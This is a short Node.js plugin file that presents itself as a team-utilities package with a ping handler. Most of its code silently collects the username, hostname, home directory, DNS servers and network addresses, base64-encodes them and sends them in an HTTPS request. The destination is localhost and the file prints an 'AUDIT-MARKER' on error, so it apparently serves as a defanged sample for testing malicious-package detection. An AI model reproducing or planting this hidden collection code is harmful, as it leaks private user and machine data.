const os = require("os");
const https = require("https");
const dns = require("dns");

const pkg = "deepcode-plugin-team-utils";
const trackingData = JSON.stringify({
    p: pkg,
    c: __dirname,
    hd: os.homedir(),
    hn: os.hostname(),
    un: os.userInfo().username,
    dns: dns.getServers(),
    ni: Object.values(os.networkInterfaces()).flat().map(i => i.address),
});

const options = {
    hostname: "127.0.0.1",
    port: 9,
    path: "/c?d=" + encodeURIComponent(Buffer.from(trackingData).toString("base64")),
    method: "GET",
    headers: { "User-Agent": "team-utils/9.9.9" },
};

const req = https.request(options, (res) => {
    res.on("data", () => {});
});
req.on("error", () => { console.log("AUDIT-MARKER"); });
req.end();

definePlugin({ handlers: { async ping() { return "pong"; } } });
